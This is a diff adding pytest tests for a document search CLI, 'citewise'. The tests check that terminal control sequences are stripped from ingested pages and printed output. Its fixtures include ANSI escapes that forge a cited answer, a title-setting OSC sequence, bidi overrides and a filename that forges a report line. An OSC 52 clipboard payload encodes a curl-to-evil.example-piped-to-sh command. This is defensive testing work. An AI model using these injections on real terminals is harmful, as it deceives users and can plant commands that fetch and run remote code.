@@ -1,0 +1,95 @@
+"""Document text never drives the reader's terminal. A page holding ``ESC [15D ESC [0K``
+(cursor back 15, erase to the end of the line) after "opens at 50 bar" made `citewise ask`
+show "opens at 99 bar [1]" in a terminal, a cited answer the page does not give; an OSC 52
+sequence wrote a shell command to the clipboard, OSC 0 set the window title, and a file name
+holding a line break forged a line of the ingest report. Ingest drops control characters
+(C0 but tab and newline, DEL, C1), and everything the CLI prints goes through one filter that
+also drops bidirectional overrides, for indexes built before."""
+
+from __future__ import annotations
+
+import json
+import os
+import sys
+from pathlib import Path
+
+import pytest
+
+from citewise.cli.common import echo, echo_json, terminal_safe
+from citewise.config import Settings
+from citewise.engine import Engine
+from citewise.ingest.normalize import drop_controls
+from citewise.testing import FakeEmbedder
+from citewise.testing.terminal import run_in_pty
+
+CITEWISE = str(Path(sys.executable).with_name("citewise"))
+ESC, BEL, CSI8 = "\x1b", "\x07", "\x9b"
+PAGE = ("<html><head><title>Valve manual</title></head><body>"
+        "<h1>Valve &#27;]0;PWNED-TITLE&#7;settings</h1>"
+        "<p>The relief valve opens at 50 bar&#27;[15D&#27;[0Kopens at 99 bar. Always check the "
+        "gauge&#155;2J before opening the valve.&#27;]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==&#7;"
+        "</p><p>Page one&#12;Page two, after a form feed.</p></body></html>")
+
+
+def _controls(text: str) -> list[str]:
+    return [c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f]
+
+
+def test_ingest_drops_control_characters_from_titles_headings_and_text(tmp_path: Path):
+    (tmp_path / "docs").mkdir()
+    (tmp_path / "docs" / "valve.html").write_text(PAGE, encoding="utf-8")
+    (tmp_path / "docs" / "notes.md").write_text(
+        "---\ntitle: \"Notes\\u001b[31m red\"\n---\n# Head\x1b[2J\n\nBody\x07 text\r\nmore\n",
+        encoding="utf-8")
+    with Engine(tmp_path / "i.db", Settings(), embedder=FakeEmbedder()) as engine:
+        assert engine.ingest_paths([tmp_path / "docs"], {"groups": ["public"]}).count("new") == 2
+        for doc in engine.store.list_documents():
+            parsed = engine.store.get_parsed(doc.doc_id)
+            everything = [doc.title, parsed.title, parsed.text,
+                          *(h for b in parsed.blocks for h in b.heading_path)]
+            assert not [t for t in everything if _controls(t)], everything
+        texts = {d.title: engine.store.get_parsed(d.doc_id).text
+                 for d in engine.store.list_documents()}
+    assert "Head[2J" in texts["Notes[31m red"] and "Body text" in texts["Notes[31m red"]
+    assert "opens at 50 bar[15D[0Kopens at 99 bar" in texts["Valve manual"]
+    assert "Page one Page two" in texts["Valve manual"]  # HTML: a form feed is a space
+
+
+def test_drop_controls_keeps_text_tabs_and_line_breaks():
+    assert drop_controls("a\tb\nc\x00d\x1b[0m\x7f\x85e\x9bf") == "a\tb\ncd[0m\nef"
+    assert drop_controls("one\r\ntwo\rthree\x0bfour\x0cfive") == "one\ntwo\nthree\nfour\nfive"
+
+
+def test_what_the_cli_prints_has_no_terminal_controls(capsys):
+    hostile = f"50 bar{ESC}[15D{ESC}[0K99 bar{ESC}]52;c;Y3VybA=={BEL}{CSI8}2J \u202eevil\u202c"
+    assert terminal_safe(hostile) == "50 bar[15D[0K99 bar]52;c;Y3VybA==2J evil"
+    assert terminal_safe("a.pdf\ndocuments: 0 new", one_line=True) == "a.pdf\\ndocuments: 0 new"
+    echo(hostile)
+    echo_json({"text": hostile})
+    out = capsys.readouterr().out
+    assert not _controls(out.replace("\n", "")) and "\u202e" not in out
+    assert json.loads(out[out.index("{"):])["text"] == hostile  # JSON keeps the value, escaped
+
+
+@pytest.mark.model
+def test_ask_and_search_in_a_terminal_show_the_page_not_what_its_escapes_draw(tmp_path: Path):
+    (tmp_path / "docs").mkdir()
+    (tmp_path / "docs" / "valve.html").write_text(PAGE, encoding="utf-8")
+    bad = tmp_path / "docs" / "x\ndocuments: 0 new, 0 changed, 0 failed.pdf"
+    bad.write_bytes(b"not a pdf")
+    env = {**os.environ, "COLUMNS": "120", "TERM": "xterm"}
+    db = str(tmp_path / "t.db")
+
+    def run(*args: str):
+        result = run_in_pty([CITEWISE, *args, "--db", db], cwd=tmp_path, env=env, timeout=240)
+        assert ESC not in result.text and BEL not in result.text and CSI8 not in result.text
+        return result
+
+    ingest = run("ingest", "docs", "--groups", "staff")
+    assert ingest.returncode == 0, ingest.text
+    assert "failed: docs/x\\ndocuments: 0 new, 0 changed, 0 failed.pdf: not a PDF" in ingest.text  # one line, the break shown
+    ask = run("ask", "At what pressure does the relief valve open?", "--groups", "staff",
+              "--generator", "extractive")
+    assert "opens at 50 bar[15D[0Kopens at 99 bar" in ask.text
+    search = run("search", "relief valve pressure", "--groups", "staff")
+    assert "Valve ]0;PWNED-TITLEsettings" in search.text
